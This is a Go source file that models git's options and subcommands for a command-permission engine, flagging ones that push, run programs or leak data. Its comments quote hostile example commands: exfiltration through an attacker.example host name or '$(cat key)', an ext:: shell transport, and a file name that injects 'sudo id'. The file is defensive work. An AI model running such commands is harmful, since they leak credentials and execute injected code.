package argmodel

// The model of git: its global options, every subcommand it ships (an
// unknown name may be an alias, which can run anything, push included),
// and in detail the subcommands and options that push, run programs or
// rewrite configuration.

import (
	"slices"
	"strings"

	"github.com/permengine/permengine/internal/ascii"
)

const (
	whyGitConfig = "sets configuration on the command line, which can run any program (alias.x=!…, core.sshCommand, core.pager)"
	whyGitPack   = "names the program git runs on the other side of the connection, or locally for a local path"
	whyGitExtern = "has an effect outside the machine"
)

// gitGlobals are git's own options, before the subcommand. git reads them
// itself: no abbreviations, no clusters.
func gitGlobals() []Option {
	return join(list(
		val("C", RolePath).chdir(),
		val("c", RoleData).does(EffExternal, whyGitConfig).when(riskyConfigPair),
		val("", RoleData, "config-env").does(EffExternal, whyGitConfig).when(riskyConfigEnv),
		opt("", RolePath, "exec-path").does(EffExternal, "runs git's helper programs from another directory").when(nonEmpty),
		val("", RolePath, "git-dir").does(EffComputed, "git reads the configuration and runs the hooks of this repository, which may be one the command made").when(otherGitDir),
		val("", RolePath, "work-tree").does(EffComputed, "git reads and writes the files of this directory as its work tree, which may be .git itself or the home directory"),
		val("", RoleData, "namespace"),
		val("", RoleData, "super-prefix"), val("", RoleData, "attr-source"), val("", RoleData, "list-cmds"),
		flag("p", "paginate"), flag("P", "no-pager"), flag("v", "version"), flag("h", "help"),
		flag("", "bare").does(EffComputed, "git --bare reads the configuration and runs the hooks of the directory it is in, which may be one the command made"),
	), longs("html-path", "man-path", "info-path", "no-replace-objects", "no-lazy-fetch", "no-optional-locks",
		"no-advice", "literal-pathspecs", "glob-pathspecs", "noglob-pathspecs", "icase-pathspecs"))
}

func nonEmpty(v string, computed bool) bool { return computed || v != "" }

// riskyConfigPair reports a -c NAME=VALUE other than the settings that
// only change how git shows or records things (harmlessConfig): git's
// keys that change what it runs, trusts or reaches are many (http.*,
// fetch.bundleURI, lfs.url, core.*), and the command uses them at once.
// A pager that runs nothing else (git -c core.pager=cat log) passes.
func riskyConfigPair(v string, computed bool) bool {
	if computed {
		return true
	}
	key, value, _ := strings.Cut(v, "=")
	lk := strings.ToLower(key)
	if lk == "core.pager" || strings.HasPrefix(lk, "pager.") && strings.Count(lk, ".") == 1 {
		return !plainPagers[value]
	}
	return !harmlessConfig(lk)
}

// harmlessConfig reports a configuration key (lower case) that changes
// only how git shows, names or records things.
func harmlessConfig(key string) bool {
	section, name, ok := strings.Cut(key, ".")
	if !ok || strings.Contains(name, ".") {
		return false // a subsection: diff.x.textconv, remote.o.url
	}
	switch section {
	case "color", "user", "advice", "column", "i18n", "log", "blame", "status", "grep":
		return true
	}
	return harmlessKeys[key]
}

// harmlessKeys are single keys of other sections that change only output
// or defaults that run nothing.
var harmlessKeys = map[string]bool{"core.quotepath": true, "core.abbrev": true, "core.autocrlf": true, "core.safecrlf": true,
	"core.filemode": true, "core.ignorecase": true, "init.defaultbranch": true, "diff.renames": true, "diff.algorithm": true,
	"diff.colormoved": true, "diff.mnemonicprefix": true, "diff.noprefix": true, "diff.relative": true, "diff.context": true,
	"merge.conflictstyle": true, "pull.rebase": true, "pull.ff": true, "rebase.autostash": true, "commit.verbose": true,
	"format.pretty": true, "pretty.oneline": true, "commit.gpgsign": true, "tag.gpgsign": true, "help.autocorrect": true}

// plainPagers are pager command lines that show text and run nothing
// the command chooses.
var plainPagers = map[string]bool{"": true, "cat": true, "less": true, "more": true, "less -R": true, "less -r": true,
	"less -FRX": true, "less -FRSX": true}

// riskyConfigEnv reports a --config-env NAME=ENVVAR: the value is the
// variable's, which the engine does not read, so only a harmless key
// passes.
func riskyConfigEnv(v string, computed bool) bool {
	if computed {
		return true
	}
	key, _, _ := strings.Cut(v, "=")
	return !harmlessConfig(strings.ToLower(key))
}

// otherGitDir reports a --git-dir that is not a work tree's own .git.
func otherGitDir(v string, computed bool) bool {
	return computed || v != ".git" && !strings.HasSuffix(v, "/.git") && !strings.HasSuffix(v, "/.git/")
}

// gitDiffOptions are the diff options of diff, log, show and their
// plumbing: --ext-diff runs the external diff program.
func gitDiffOptions() []Option {
	return join(list(
		flag("", "ext-diff").does(EffExec, "git --ext-diff runs the external diff program"),
		val("", RolePath, "output"), val("O", RolePath),
		opt("U", RoleData, "unified"), opt("X", RoleData, "dirstat"), opt("B", RoleData, "break-rewrites"),
		opt("M", RoleData, "find-renames"), opt("C", RoleData, "find-copies"), val("l", RoleData),
		val("I", RoleData, "ignore-matching-lines"), val("G", RoleData), val("S", RoleData),
		val("n", RoleData, "max-count"),
	), vals(RoleData, "stat-width", "stat-name-width", "stat-graph-width", "stat-count", "ws-error-highlight",
		"src-prefix", "dst-prefix", "line-prefix", "inter-hunk-context", "output-indicator-new",
		"output-indicator-old", "output-indicator-context", "diff-algorithm", "anchored", "word-diff-regex",
		"color-moved-ws", "rotate-to", "skip-to", "find-object", "skip", "since", "after", "until",
		"before", "author", "committer", "grep", "min-parents", "max-parents", "date", "encoding",
		"decorate-refs", "decorate-refs-exclude", "exclude"))
}

// gitPackProgram is an option naming git-upload-pack or git-receive-pack.
// Over ssh the program runs on the remote host, as ssh host CMD does:
// an effect outside the machine, whatever the remote's spelling.
func gitPackProgram(short string, long ...string) Option {
	return val(short, RoleProgram, long...).does(EffExec|EffExternal, whyGitPack)
}

func gitSub(name string, opts []Option) *Spec {
	return &Spec{Name: name, Syntax: GitOpts, Open: true, OpenSubs: true, Options: opts}
}

func gitEffect(name, instead string, opts []Option) *Spec {
	s := gitSub(name, opts)
	s.Effect, s.Why, s.Instead = EffExternal, whyGitExtern, instead
	return s
}

// gitMergeAbort takes back the merge's effect from git merge --abort and
// git merge --quit given alone: they end a merge in progress (restoring
// the work tree, or leaving it as it is) and merge nothing.
func gitMergeAbort(s *Spec) *Spec {
	s.Judge = func(r *Result, words []string) {
		at := slices.Index(words, "merge")
		if at < 0 || len(words) != at+2 || words[at+1] != "--abort" && words[at+1] != "--quit" {
			return
		}
		r.takeBackSub(EffExternal)
	}
	return s
}

// gitEffectSub is a subcommand with an effect of its own words.
func gitEffectSub(name, why string, opts []Option) *Spec {
	s := gitSub(name, opts)
	s.Effect, s.Why, s.Instead = EffExternal, why, "git_merge"
	return s
}

// gitCredential is a credential subcommand: it gives out the secrets
// stored for a remote (credential-store get reads ~/.git-credentials,
// which a plain read of it would reach as a protected path), or stores and
// erases them.
func gitCredential(name string) *Spec {
	s := gitSub(name, nil)
	s.Effect, s.Why = EffExternal, "git "+name+" gives out, stores or erases the credentials kept for a remote: secrets a person must see asked for"
	return s
}

// gitForEachRepo is git for-each-repo --config=KEY ARGS…, which runs git
// ARGS… in every repository KEY lists: ARGS may push, or run any program
// through git's own options (-c alias.x='!cmd' x). The engine does not
// read them as a git command line, so the subcommand is an effect of its
// own.
func gitForEachRepo() *Spec {
	s := gitSub("for-each-repo", list(val("", RoleData, "config"), flag("", "keep-going")))
	s.Effect, s.Why = EffExternal, "runs the git command line after its options in every repository a configuration key lists: it may push, or run any program"
	return s
}

// gitMergeIndex is git merge-index [-o] [-q] PROGRAM (-a | FILE…): it runs
// PROGRAM for every unmerged file, with the file's blobs and name as its
// arguments, as xargs appends its input.
func gitMergeIndex() *Spec {
	s := gitSub("merge-index", list(flag("o"), flag("q")))
	s.Open, s.OpenSubs = false, false
	s.Operands = []Operand{{Role: RoleCommand, Appends: true}}
	return s
}

// gitUnread is a subcommand that runs what the engine cannot read.
func gitUnread(name, why string) *Spec {
	s := gitSub(name, nil)
	s.Effect, s.Why = EffExec|EffComputed, why
	return s
}

// gitServer makes a subcommand that serves the repository an effect
// outside as well.
func gitServer(s *Spec) *Spec {
	s.Effect |= EffExternal
	return s
}

func gitExec(name, why string, opts []Option) *Spec {
	s := gitSub(name, opts)
	s.Effect, s.Why = EffExec, why
	return s
}

// gitWithSubs is a git subcommand with subcommands of its own, of which
// only those listed with an effect matter; other names are operands.
func gitWithSubs(name string, subs ...*Spec) *Spec {
	s := gitSub(name, nil)
	s.Subs = subs
	return s
}

// gitPlain are git's subcommands with nothing on their command line that
// pushes or runs a program.
var gitPlain = []string{
	"add", "stage", "am", "branch", "bundle", "checkout", "citool", "clean", "commit",
	"describe", "format-patch", "gc", "gitk", "gui", "init-db", "mv", "notes", "range-diff", "reset",
	"restore", "rm", "shortlog", "sparse-checkout", "stash", "status", "switch", "tag",
	"worktree", "fast-export", "fast-import", "pack-refs", "prune", "reflog", "repack",
	"annotate", "blame", "bugreport", "count-objects", "fsck", "gitweb", "merge-tree",
	"rerere", "show-branch", "verify-commit", "verify-tag", "version", "archimport", "cvsimport",
	"cvsserver", "quiltimport", "apply", "checkout-index", "commit-graph", "commit-tree", "hash-object",
	"index-pack", "merge-file", "mktag", "mktree", "multi-pack-index", "pack-objects",
	"prune-packed", "read-tree", "symbolic-ref", "unpack-objects", "update-index",
	"write-tree", "cat-file", "cherry", "for-each-ref", "get-tar-commit-id", "ls-files",
	"ls-tree", "merge-base", "name-rev", "pack-redundant", "rev-list", "rev-parse", "show-index",
	"show-ref", "unpack-file", "verify-pack", "update-server-info",
	"check-attr", "check-ignore", "check-mailmap", "check-ref-format", "column", "fmt-merge-msg", "interpret-trailers", "mailinfo",
	"mailsplit", "merge-one-file", "patch-id", "sh-i18n", "sh-setup", "stripspace", "upload-pack",
	"upload-archive", "merge-ours", "merge-recursive", "merge-resolve", "merge-octopus",
	"merge-subtree", "replay", "backfill", "last-modified", "refs", "repo", "whatchanged",
	"diff-pairs", "checkout--worker", "fsmonitor--daemon", "fsck-objects",
	"merge-recursive-ours", "merge-recursive-theirs", "pickaxe",
}

// gitModel builds git's model.
func gitModel() *Spec {
	// One list of diff options for all six subcommands: a model's options
	// are read, never changed, once built (clipped, so that an append
	// could not write into another's).
	diff := slices.Clip(gitDiffOptions())
	subs := []*Spec{
		gitEffect("push", "git_push", join(list(
			gitPackProgram("", "receive-pack", "exec"), val("", RoleRemote, "repo"),
			opt("", RoleData, "force-with-lease"), opt("", RoleData, "signed"), val("o", RoleData, "push-option"),
			opt("", RoleData, "recurse-submodules"), flag("f", "force"), flag("", "force-if-includes"),
			flag("u", "set-upstream"), flag("n", "dry-run"), flag("q", "quiet"), flag("v", "verbose"),
			flag("d", "delete"), flag("", "tags"), flag("", "all"), flag("", "mirror"), flag("", "no-verify"),
		))),
		gitEffect("send-pack", "git_push", list(gitPackProgram("", "receive-pack", "exec"),
			val("", RoleRemote, "remote"), opt("", RoleData, "signed"), val("", RoleData, "push-option"))),
		gitEffect("http-push", "git_push", nil),
		// http-fetch asks the server for what its words or, with
		// --stdin, its input name: the input goes to the server.
		gitEffect("http-fetch", "", nil),
		// The remote helpers speak git's protocol on their input: a
		// "push" line there pushes (printf 'push …' | git remote-http o URL).
		gitEffect("remote-http", "git_push", nil), gitEffect("remote-https", "git_push", nil),
		gitEffect("remote-ftp", "git_push", nil), gitEffect("remote-ftps", "git_push", nil), gitEffect("remote-fd", "git_push", nil),
		gitEffect("receive-pack", "git_push", nil), // updates the repository it names from a pack: a push received
		gitMergeAbort(gitEffect("merge", "git_merge", list(gitStrategy("s"), val("X", RoleData, "strategy-option"),
			val("m", RoleData, "message"), val("F", RolePath, "file"), opt("S", RoleData, "gpg-sign"),
			val("", RoleData, "cleanup"), opt("", RoleData, "log"), val("", RoleData, "into-name")))),
		gitEffect("send-email", "", list(
			val("", RoleProgram, "sendmail-cmd", "to-cmd", "cc-cmd", "header-cmd").does(EffExec, "git send-email runs this command"),
			val("", RoleData, "smtp-server"),
		)),
		gitCredential("credential"), gitCredential("credential-store"), gitCredential("credential-cache"),
		gitForEachRepo(),
		gitMergeIndex(),
		gitEffect("request-pull", "", nil),
		gitEffect("imap-send", "", nil),
		gitEffect("cvsexportcommit", "", nil),
		gitEffect("daemon", "", nil),
		// git svn branch and tag copy on the Subversion server, and
		// commit-diff commits to it: each writes the remote as dcommit does.
		gitWithSubs("svn", gitEffect("dcommit", "git_push", nil), gitEffect("set-tree", "git_push", nil),
			gitEffect("branch", "git_push", nil), gitEffect("tag", "git_push", nil), gitEffect("commit-diff", "git_push", nil)),
		gitWithSubs("lfs", gitEffect("push", "git_push", nil), armed(gitSub("install", nil), "git lfs install "+whyHooks),
			armed(gitSub("update", nil), "git lfs update "+whyHooks)),
		gitWithSubs("subtree", gitEffect("push", "git_push", nil)),
		gitWithSubs("p4", gitEffect("submit", "", nil), gitEffect("commit", "", nil)), // (git-p4's commit is submit)
		fromAddressAndRefs(gitSub("fetch", list(gitPackProgram("", "upload-pack"), flag("u", "update-head-ok"), gitStdinRefs(),
			val("j", RoleData, "jobs"), opt("", RoleData, "recurse-submodules"), val("", RoleData, "depth"),
			val("", RoleData, "deepen"), val("", RoleData, "shallow-since"), val("", RoleData, "shallow-exclude"),
			val("", RoleData, "refmap"), val("o", RoleData, "server-option"), val("", RoleData, "negotiation-tip"),
			val("", RoleData, "filter"), val("", RolePath, "submodule-prefix")))),
		fromAddressAndRefs(gitEffectSub("pull", "merges what it fetches into the work tree, as git merge does, and may write any file a commit holds", list(gitPackProgram("", "upload-pack"), opt("r", RoleData, "rebase"),
			gitStrategy("s"), val("X", RoleData, "strategy-option"), opt("S", RoleData, "gpg-sign"),
			opt("j", RoleData, "jobs"), val("", RoleData, "depth"), val("o", RoleData, "server-option"),
			opt("", RoleData, "recurse-submodules"), val("", RoleData, "cleanup")))),
		fromAddress(gitSub("clone", list(gitPackProgram("u", "upload-pack"),
			val("", RolePath, "template").does(EffExternal, "git clone --template copies hooks from this directory into the new repository, where git runs them"),
			val("c", RoleData, "config").does(EffExternal, "git clone -c "+whyGitConfig+"; the clone itself uses it"),
			val("j", RoleData, "jobs"), val("", RolePath, "reference", "reference-if-able"),
			val("o", RoleData, "origin"), val("b", RoleData, "branch"), val("", RoleData, "depth"),
			val("", RoleData, "shallow-since"), val("", RoleData, "shallow-exclude"),
			gitSeparateDir(), gitBare(), flag("", "mirror").does(EffExternal, "--mirror makes a bare repository, whose hooks and configuration are not under .git"),
			val("", RoleData, "server-option"), val("", RoleData, "filter"),
			val("", RoleData, "bundle-uri"), opt("", RoleData, "recurse-submodules", "recursive")))),
		gitSub("init", list(val("", RolePath, "template").does(EffExternal, "git init --template copies hooks from this directory into the repository, where git runs them"),
			gitSeparateDir(), gitBare(), opt("", RoleData, "shared"), val("b", RoleData, "initial-branch"),
			val("", RoleData, "object-format", "ref-format"))),
		fromAddressAndRefs(gitSub("ls-remote", list(gitPackProgram("u", "upload-pack", "exec"), val("", RoleData, "sort"),
			val("o", RoleData, "server-option")))),
		fromAddressAndRefs(gitSub("fetch-pack", list(gitPackProgram("", "upload-pack", "exec"), val("", RoleData, "depth"), gitStdinRefs()))),
		gitSub("archive", list(gitPackProgram("", "exec"),
			val("", RoleRemote, "remote").does(EffExternal, "git archive --remote runs git-upload-archive on another host, over ssh"),
			val("o", RolePath, "output").output(), val("", RoleData, "format", "prefix", "mtime"),
			val("", RolePath, "add-file"), val("", RoleData, "add-virtual-file"))),
		gitSub("grep", list(
			opt("O", RoleProgram, "open-files-in-pager").does(EffExec, "git grep -O opens the files in this pager").appends(),
			val("f", RolePath), val("e", RoleData), val("", RoleData, "max-depth"), opt("", RoleData, "color"),
			val("C", RoleData, "context"), val("B", RoleData, "before-context"), val("A", RoleData, "after-context"),
			val("", RoleData, "threads"), val("m", RoleData, "max-count"))),
		gitSub("rebase", list(
			val("x", RoleCode, "exec").code(LangShell).does(EffExec, "git rebase --exec runs a command after every commit"),
			val("", RoleData, "onto", "whitespace", "empty"), opt("S", RoleData, "gpg-sign"),
			opt("r", RoleData, "rebase-merges"), gitStrategy("s"), val("X", RoleData, "strategy-option"),
			val("C", RoleData))),
		// -s is --signoff here: the strategy has its long name only.
		gitSub("cherry-pick", list(gitStrategy(""), val("X", RoleData, "strategy-option"), opt("S", RoleData, "gpg-sign"),
			val("m", RoleData, "mainline"), val("", RoleData, "cleanup"))),
		gitSub("revert", list(gitStrategy(""), val("X", RoleData, "strategy-option"), opt("S", RoleData, "gpg-sign"),
			val("m", RoleData, "mainline"), val("", RoleData, "cleanup"))),
		// git http-backend is the server side of a push over HTTP: with
		// REQUEST_METHOD=POST and a receive-pack body it updates the
		// repository it is given and runs that repository's hooks.
		gitEffect("http-backend", "git_push", nil),
		judged(gitExec("difftool", "git difftool runs a diff program", list(
			// git appends each changed file's two versions, the work
			// tree's own file among them, to the command's words: perl -pi
			// or tee there writes files no word names, a protected one
			// among them (every tracked file differs from the empty tree).
			val("x", RoleCode, "extcmd").code(LangShell).does(EffExec|EffComputed,
				"git difftool -x runs this command with the names of the changed files added to its words, files of the work tree among them: what it does to them is not read"),
			gitTool(), val("", RoleData, "gui-tool"))), judgeExtcmdGlob),
		gitExec("mergetool", "git mergetool runs a merge program", list(gitTool(),
			val("O", RolePath))),
		gitExec("filter-branch", "git filter-branch runs the filters given as arguments", list(
			val("", RoleCode, "setup", "env-filter", "tree-filter", "index-filter", "parent-filter", "msg-filter",
				"commit-filter", "tag-name-filter").code(LangShell),
			val("d", RolePath).does(EffComputed, "git filter-branch -d names the directory it removes with all it holds (rm -rf) before it starts and when it ends"),
			val("", RoleData, "subdirectory-filter", "prune-empty", "original", "state-branch"))),
		gitServer(gitExec("instaweb", "git instaweb starts a web server for the repository and a browser; with some servers, on every address even with --local", list(
			val("d", RoleProgram, "httpd"), val("b", RoleProgram, "browser"), val("m", RoleData, "module-path"),
			val("p", RoleData, "port"), flag("l", "local"), flag("", "start", "stop", "restart")))),
		gitServer(gitExec("web--browse", "git web--browse opens its operands in a browser or the handler -b, -t or the configuration names: a program the engine does not see, which may open any file or address", nil)),
		gitSub("help", list(flag("w", "web").does(EffExternal|EffExec, "git help -w opens the page with git web--browse: a browser or handler the configuration names"),
			flag("a", "all"), flag("g", "guides"), flag("i", "info"), flag("m", "man"), flag("c", "config"))),
		gitRemoteExt(),
		gitExec("hook", "git hook runs the repository's hooks", nil),
		gitUnread("shell", "runs the command given with -c, or a program of ~/git-shell-commands by that name, which the engine does not read"),
		gitExec("difftool--helper", "runs a diff program", nil),
		gitExec("mergetool--lib", "runs a merge program", nil),
		gitSub("diff", diff), gitSub("log", diff), gitSub("show", diff),
		gitSub("diff-tree", diff), gitSub("diff-files", diff), gitSub("diff-index", diff),
		gitRemote(), gitSubmodule("submodule"), gitSubmodule("submodule--helper"), gitBisect(), gitConfigModel(), gitMaintenance(), gitReplace(),
		gitUpdateRef(), gitVar(), gitDiagnose(),
	}
	for _, n := range gitPlain {
		sub := gitSub(n, nil)
		switch n {
		case "clean":
			sub.Options = list(flag("d"), flag("f", "force"), flag("i", "interactive"), flag("n", "dry-run"),
				flag("q", "quiet"), val("e", RoleData, "exclude"), flag("x"), flag("X"))
			sub.Judge = judgeGitClean
		case "stash":
			// push's options, which git stash alone takes too (show -u
			// only shows, read the same: the safe side).
			sub.Options = list(flag("a", "all"), flag("u", "include-untracked"), flag("k", "keep-index"),
				flag("p", "patch"), flag("S", "staged"), flag("q", "quiet"), val("m", RoleData, "message"),
				val("", RolePath, "pathspec-from-file"), flag("", "pathspec-file-nul", "index"))
			sub.Judge = judgeGitStash
		}
		subs = append(subs, sub)
	}
	return &Spec{Name: "git", Syntax: Syntax{}, Options: gitGlobals(), Subs: subs, Judge: judgeGitTransports}
}

// whyUnnamedRemoval is why git stash -a and -u ask.
const whyUnnamedRemoval = "removes files no word names, untracked ones (-u) or ignored ones too (-a: .env, a local configuration), which may be protected; git stash keeps them in the repository's objects"

// judgeGitClean finds a git clean that removes files, unless -n or
// --dry-run only lists what it would remove. Which files are untracked is
// the repository's state, which the engine does not read: an untracked
// .env.local or permissions.json, or every file once an earlier git rm
// --cached . emptied the index (-x removes ignored files too). A pathspec
// narrows it to directories that may hold protected files as well.
func judgeGitClean(r *Result, words []string) {
	dry := false // the last of -n, --dry-run and --no-dry-run says (-en is -e n, a pattern)
	for _, it := range r.Items {
		if it.Kind == KindOption && it.Opt != nil && it.Opt.Short == "n" && it.Spec != nil && it.Spec.Name == "clean" {
			dry = !strings.HasPrefix(words[it.Word], "--no-")
		}
	}
	if dry {
		return
	}
	r.Effects |= EffComputed
	r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: 0, Why: whyClean})
}

// whyClean is why a git clean that removes files asks.
const whyClean = "git clean removes the untracked files no word names (with -x the ignored ones too: .env, a local configuration): which files are untracked is the repository's state, which the engine does not read, and protected ones may be among them"

// judgeGitStash finds git stash -a (--all: ignored files too) and -u
// (--include-untracked): the files are removed from the work tree.
func judgeGitStash(r *Result, words []string) {
	all, untracked := false, false // the last of -a, --all and --no-all says; so for -u
	for _, it := range r.Items {
		if it.Kind != KindOption || it.Opt == nil || it.Spec == nil || it.Spec.Name != "stash" {
			continue
		}
		on := !strings.HasPrefix(words[it.Word], "--no-")
		switch it.Opt.Short {
		case "a":
			all = on
		case "u":
			untracked = on
		}
	}
	if all || untracked {
		r.Effects |= EffComputed
		r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: 0, Why: "git stash -a or -u " + whyUnnamedRemoval})
	}
}

// judgeGitTransports finds an address of the ext:: transport, which git
// runs as a command (git clone 'ext::sh -c …'): the command is not read.
func judgeGitTransports(r *Result, words []string) {
	for i, w := range words[1:] {
		if strings.HasPrefix(w, "ext::") || strings.Contains(w, "=ext::") {
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i + 1,
				Why: "the ext:: transport runs the command in the address, which the engine does not read"})
			return
		}
	}
}

// fromAddress gives a subcommand that reaches the repository its first
// operand names (git clone, submodule add) the check that the address and
// the options' values are written out: a variable's value or a command's
// output in them leaves the machine with the request, in the host name,
// the path or what is asked of the server (git clone
// "https://$x.attacker.example", git clone -o "$(cat key)"). The later
// operands of these are local directories.
func fromAddress(s *Spec) *Spec { return reachesServer(s, false) }

// fromAddressAndRefs is fromAddress for a subcommand whose later operands
// are refs or ref patterns (git fetch, pull, ls-remote, fetch-pack): git
// sends them to the server too, as the ref prefixes it asks for (git
// fetch origin "refs/heads/$SECRET"), so a computed one is checked as the
// address is.
func fromAddressAndRefs(s *Spec) *Spec { return reachesServer(s, true) }

func reachesServer(s *Spec, refs bool) *Spec {
	s.Judge = func(r *Result, _ []string) {
		address := true // the first operand is the address; later ones are refs or directories
		for _, it := range r.Items {
			if it.Kind != KindOperand && it.Kind != KindValue {
				continue
			}
			if (it.Kind == KindValue || address) && it.computedText() {
				r.Effects |= EffExternal
				r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word,
					Why: whyComputedRequest})
				return
			}
			if it.Kind == KindOperand && !refs {
				address = false
			}
		}
	}
	return s
}

// gitSeparateDir is --separate-git-dir DIR of git init and git clone: the
// repository, its hooks and configuration, move where the protected paths
// (.git/hooks, .git/config) do not reach.
func gitSeparateDir() Option {
	return val("", RolePath, "separate-git-dir").does(EffExternal,
		"--separate-git-dir moves the repository's hooks and configuration out of .git, where the protected paths do not reach them")
}

// gitBare is --bare of git init and git clone: a repository whose hooks
// and configuration are not under .git, where the protected paths do not
// reach them (a .git file may point a work tree at it).
func gitBare() Option {
	return flag("", "bare").does(EffExternal,
		"--bare makes a repository whose hooks and configuration are not under .git, where the protected paths do not reach them")
}

// gitRemoteExt is git remote-ext REMOTE COMMAND, which runs COMMAND.
func gitRemoteExt() *Spec {
	s := gitExec("remote-ext", "git remote-ext runs the command given in the address", nil)
	// git splits the command at spaces and reads % escapes of its own
	// (% is a space): not shell text, so it is not read as a script.
	s.Operands = []Operand{{Role: RoleData},
		{Role: RoleData, Effect: EffExec | EffComputed, Why: "git remote-ext runs this command, split the way git splits it, which the engine does not read"}}
	return s
}

func gitRemote() *Spec {
	return gitWithSubs("remote",
		gitEffect("add", "", list(val("t", RoleData), val("m", RoleData), opt("", RoleData, "mirror"))),
		gitEffect("set-url", "", nil),
		gitEffect("rename", "", nil), gitEffect("remove", "", nil), gitEffect("rm", "", nil), gitSub("set-head", nil),
		gitSub("set-branches", nil), gitSub("get-url", nil), gitSub("show", nil), gitSub("prune", nil),
		gitSub("update", nil))
}

// gitReplace: git replace makes git read another object wherever the
// repository names one, so a later checkout writes files whose content no
// word shows (a replaced blob of .claude/settings.json).
func gitReplace() *Spec {
	s := gitSub("replace", nil)
	s.Effect, s.Why = EffExternal, "makes git read other objects in place of the repository's commits, trees and files: what a later checkout writes, no word of the command shows"
	return s
}

// gitUpdateRef is git update-ref: a ref under refs/replace/ is a
// replacement, as git replace makes (git update-ref refs/replace/BLOB
// EVIL); refs read from its input may be any.
func gitUpdateRef() *Spec {
	s := gitSub("update-ref", list(flag("", "stdin").does(EffExternal, "git update-ref --stdin changes the refs its input names, replacements under refs/replace/ among them: "+whyReplaced)))
	s.Operands = []Operand{{Role: RoleData, Effect: EffExternal, Why: "a ref under refs/replace/ " + whyReplaced,
		Check: func(v string, computed bool) bool { return computed || strings.Contains(v, "refs/replace/") }}}
	return s
}

// whyReplaced is what a replacement does.
const whyReplaced = "makes git read other objects in place of the repository's commits, trees and files: what a later checkout writes, no word of the command shows"

// gitVar is git var: -l lists the configuration, as git config --list
// does, tokens among it.
func gitVar() *Spec {
	return gitSub("var", list(flag("l").does(EffExternal, "git var -l prints every key of the configuration, the token actions/checkout keeps in http.*.extraheader and other credentials among them: "+whyPrintsSecret)))
}

// gitDiagnose is git diagnose: it archives the repository's files, its
// configuration (and the tokens there) among them, under names no word
// shows.
func gitDiagnose() *Spec {
	s := gitSub("diagnose", nil)
	s.Effect, s.Why = EffExternal, "git diagnose archives the repository's files, its configuration and the credentials there among them: "+whyPrintsSecret
	return s
}

func gitSubmodule(name string) *Spec {
	foreach := gitSub("foreach", nil)
	foreach.Options = list(flag("", "recursive"), flag("q", "quiet"))
	// One word is a shell command line; with more, the first is the command
	// line and the rest its arguments (git runs sh -c 'CMD "$@"' CMD ARGS):
	// foreach git push origin runs git push origin.
	foreach.Operands = []Operand{
		{Role: RoleCode, Lang: LangShell, Effect: EffExec, Why: "git submodule foreach runs a command in every submodule"},
		{Role: RoleArg},
	}
	s := gitWithSubs(name, foreach)
	s.Subs = append(s.Subs, fromAddress(gitSub("add", nil)))
	for _, n := range []string{"status", "init", "deinit", "update", "summary", "sync", "absorbgitdirs"} {
		s.Subs = append(s.Subs, gitSub(n, nil))
	}
	// set-url and set-branch rewrite .gitmodules and the submodule's
	// entry in .git/config, as git remote set-url does the remote's: the
	// next update fetches from where they say.
	s.Subs = append(s.Subs, gitEffect("set-url", "", nil), gitEffect("set-branch", "", list(val("b", RoleData, "branch"), flag("d", "default"))))
	s.OpenSubs = false
	s.Options = list(flag("q", "quiet"), flag("", "cached"))
	return s
}

func gitBisect() *Spec {
	run := gitSub("run", nil)
	run.OpenSubs = false
	run.Syntax = Syntax{}
	// The command is a segment of its own, which rules and caps judge.
	run.Operands = []Operand{{Role: RoleCommand}}
	s := gitWithSubs("bisect", run)
	for _, n := range []string{"start", "bad", "good", "new", "old", "terms", "skip", "reset", "replay", "log", "help"} {
		s.Subs = append(s.Subs, gitSub(n, nil))
	}
	// git bisect view git push …, view gitk --all: a first argument that
	// is not an option is a command git runs (another git command, or
	// one named git-something or tig), with --bisect appended.
	for _, n := range []string{"visualize", "view"} {
		v := gitSub(n, nil)
		v.Syntax = Syntax{}
		v.Operands = []Operand{{Role: RoleData, Effect: EffExec | EffComputed, Check: func(w string, computed bool) bool { return computed || !strings.HasPrefix(w, "-") },
			Why: "git bisect view runs its arguments as a command, with words of its own added, which the engine does not read"}}
		s.Subs = append(s.Subs, v)
	}
	s.OpenSubs = false
	return s
}

// gitStdinRefs is --stdin of git fetch and fetch-pack: the refs read from
// the input go to the server in the request (a file's lines, sent out).
func gitStdinRefs() Option {
	return flag("", "stdin").does(EffExternal, "--stdin sends the lines of its input to the server as the refs it asks for")
}

// gitStrategy is -s/--strategy NAME (short "" where -s means something
// else): a strategy that is not built in is the program git-merge-NAME,
// found on PATH, or by a path when NAME has a slash (-s ../x runs
// git-merge-../x in the working directory).
func gitStrategy(short string) Option {
	return val(short, RoleData, "strategy").does(EffExec|EffComputed, "git runs a merge strategy that is not built in as a program, git-merge-NAME, found on PATH or by a path").
		when(func(v string, computed bool) bool { return computed || !builtinStrategies[v] })
}

// builtinStrategies are the merge strategies built into git.
var builtinStrategies = map[string]bool{"ort": true, "recursive": true, "resolve": true, "octopus": true, "ours": true, "subtree": true}

// gitTool is -t/--tool NAME of difftool and mergetool: git sources the
// tool's script from its directory of tools by that name, and a name with
// a slash from wherever it leads (--tool=../../x).
func gitTool() Option {
	return val("t", RoleData, "tool").does(EffExec|EffComputed, "the tool's name is a script git sources, by a path when it has a slash").
		when(func(v string, computed bool) bool { return computed || strings.ContainsAny(v, "/\\") })
}

// judged gives s a judge and returns it.
func judged(s *Spec, j func(*Result, []string)) *Spec {
	s.Judge = j
	return s
}

// judgeExtcmdGlob finds a difftool -x command with a glob: the helper
// evals the command after word splitting and pathname expansion, so a
// file's name becomes code (touch 'x;sudo id;' then -x 'echo x*').
func judgeExtcmdGlob(r *Result, _ []string) {
	for _, it := range r.Items {
		if it.Kind == KindValue && it.Opt != nil && it.Opt.Short == "x" && strings.ContainsAny(it.Text, ascii.GlobChars) {
			r.Effects |= EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: it.Word,
				Why: "git difftool evals its command after expanding globs in it: a file's name becomes code"})
			return
		}
	}
}

func gitMaintenance() *Spec {
	return gitWithSubs("maintenance",
		gitEffect("start", "", nil), gitEffect("register", "", nil),
		gitSub("run", nil), gitSub("stop", nil), gitSub("unregister", nil))
}
